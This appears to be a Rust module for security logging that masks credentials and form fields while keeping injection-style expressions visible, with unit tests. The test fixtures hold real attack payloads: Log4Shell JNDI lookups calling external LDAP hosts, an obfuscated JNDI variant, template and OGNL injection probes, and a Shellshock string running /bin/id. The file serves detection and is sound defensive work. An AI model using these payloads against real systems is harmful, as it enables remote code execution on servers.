//! Expressions inside of what is masked or not told: `${…}`, `#{…}`, `%{…}`, `{{…}}` and a shell's `() {…}`.
//!
//! Attacks hide where secrets travel: in `Authorization` and `Cookie`, which are masked, and in the fields of forms, which hold what
//! people wrote about themselves. No credential needs an expression: a brace is neither in a token of RFC 9110 (section 5.6.2), nor in
//! `token68` (section 11.2), nor in a bearer token (RFC 6750, section 2.1). So the expression is shown and all around it is `***`.
//! Characters may be percent-encoded (RFC 3986, section 2.1), as forms and cookies do. Linear in its input.
//!
//! Caps: 8 expressions and 1,024 bytes of them a value; of one that is not closed 256 bytes.

/// Expressions of one value that are shown.
const MAX_EXPRESSIONS: usize = 8;
/// Bytes of them.
const MAX_BYTES: usize = 1_024;
/// Bytes of one whose end is missing.
const MAX_OPEN: usize = 256;
/// What stands for the rest.
const MASK: &[u8] = b"***";

/// A value of which nothing but its expressions is left.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shown {
    /// The expressions, `***` between them; empty when there are none.
    pub text: Vec<u8>,
    /// Whether there was more than is shown.
    pub is_cut: bool,
}

/// Masks all of `value` but its expressions.
#[must_use]
pub fn shown(value: &[u8]) -> Shown {
    let mut shown = Shown::default();
    if !has_brace(value) {
        return shown;
    }
    let mut units = Units { value, place: 0 };
    let mut before = [0_u8; 3];
    let mut starts = [0; 3];
    let (mut told, mut expressions) = (0, 0);
    while let Some((byte, start)) = units.next() {
        if byte == b'{'
            && let Some(start) = opening(before, starts)
        {
            if expressions == MAX_EXPRESSIONS || shown.text.len() >= MAX_BYTES {
                shown.is_cut = true;
                return shown;
            }
            expressions += 1;
            let end = close(&mut units, 1 + u32::from(before[2] == b'{'));
            if start > told {
                shown.text.extend_from_slice(MASK);
            }
            let length = match end {
                Some(end) => end.saturating_sub(start),
                None => value.len().saturating_sub(start).min(MAX_OPEN),
            };
            let length = length.min(MAX_BYTES);
            let written = value.iter().skip(start).take(length);
            shown.text.extend(written);
            told = start.saturating_add(length);
            shown.is_cut |= end.is_some_and(|end| end > told);
            units.place = end.unwrap_or(value.len());
            (before, starts) = ([0; 3], [0; 3]);
            continue;
        }
        before = [before[1], before[2], byte];
        starts = [starts[1], starts[2], start];
    }
    if expressions > 0 && told < value.len() {
        shown.text.extend_from_slice(MASK);
    }
    shown
}

/// Whether there is an opening brace, plain or encoded; hardly any value has one.
fn has_brace(value: &[u8]) -> bool {
    memchr::memchr(b'{', value).is_some()
        || memchr::memmem::find(value, b"%7B").is_some()
        || memchr::memmem::find(value, b"%7b").is_some()
}

/// Where the expression begins whose brace follows these characters.
fn opening(before: [u8; 3], [first, second, third]: [usize; 3]) -> Option<usize> {
    match before {
        [_, _, b'$' | b'#' | b'%' | b'{'] => Some(third),
        [_, b'(', b')'] => Some(second),
        [b'(', b')', b' ' | b'+'] => Some(first),
        _ => None,
    }
}

/// Where the expression ends, its last brace included.
fn close(units: &mut Units<'_>, mut depth: u32) -> Option<usize> {
    while let Some((byte, _)) = units.next() {
        match byte {
            b'{' => depth = depth.saturating_add(1),
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if depth == 0 {
            return Some(units.place);
        }
    }
    None
}

/// Characters with the places that they begin at; `%7b` is one.
struct Units<'a> {
    value: &'a [u8],
    place: usize,
}

impl Units<'_> {
    fn next(&mut self) -> Option<(u8, usize)> {
        let start = self.place;
        let rest = self.value.get(start..)?;
        let (byte, length) = match rest {
            [b'%', high, low, ..] => match (digit(*high), digit(*low)) {
                (Some(high), Some(low)) => (high << 4 | low, 3),
                _ => (b'%', 1),
            },
            [byte, ..] => (*byte, 1),
            [] => return None,
        };
        self.place = start.saturating_add(length);
        Some((byte, start))
    }
}

fn digit(byte: u8) -> Option<u8> {
    match byte {
        b'0'..=b'9' => Some(byte - b'0'),
        b'a'..=b'f' => Some(byte - b'a' + 10),
        b'A'..=b'F' => Some(byte - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(value: &str) -> String {
        String::from_utf8(shown(value.as_bytes()).text).expect("what was given")
    }

    #[test]
    fn an_expression_is_shown_and_nothing_around_it() {
        for (value, expected) in [
            (
                "Bearer ${jndi:ldap://45.83.193.150:1389/Exploit}",
                "***${jndi:ldap://45.83.193.150:1389/Exploit}",
            ),
            (
                "uname=${jndi:ldap://203.0.113.217}&password=test",
                "***${jndi:ldap://203.0.113.217}***",
            ),
            (
                "u=%24%7Bjndi%3Aldap%3A%2F%2Fa%7d&password=x",
                "***%24%7Bjndi%3Aldap%3A%2F%2Fa%7d***",
            ),
            (
                "${${lower:j}ndi:dns://a}=1; b=#{7*7}",
                "${${lower:j}ndi:dns://a}***#{7*7}",
            ),
            ("name=%{(#a=1)}", "***%{(#a=1)}"),
            ("q={{7*7}}!", "***{{7*7}}***"),
            ("x=() { :;}; /bin/id", "***() { :;}***"),
            ("x=(){ :;}", "***(){ :;}"),
        ] {
            assert_eq!(text(value), expected);
        }
    }

    #[test]
    fn what_holds_none_shows_nothing() {
        for value in [
            "",
            "Basic dXNlcjpwYXNz",
            "Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln",
            "Digest username=\"a\", uri=\"/x?y=%7B\"",
            "AWS4-HMAC-SHA256 Credential=A/2026/x, Signature=0f",
            "{\"user\": {\"password\": \"$ecret\"}}",
            "password=a$b#c%25&x=%7B1%7D",
            "%",
            "%7",
            "{",
        ] {
            assert_eq!(text(value), "", "{value}");
        }
    }

    #[test]
    fn what_is_shown_is_bounded() {
        let open = shown(&[b"a=${".as_slice(), &[b'x'; 5_000]].concat());
        assert_eq!(open.text.len(), MASK.len() + MAX_OPEN + MASK.len());
        let long = shown(&[b"${".as_slice(), &[b'x'; 5_000], b"}"].concat());
        assert_eq!(
            (long.text.len(), long.is_cut),
            (MAX_BYTES + MASK.len(), true)
        );
        let many = shown(&b"${a} ".repeat(100));
        assert!(many.is_cut);
        assert_eq!(many.text.len(), 8 * 4 + 7 * 3);
    }
}
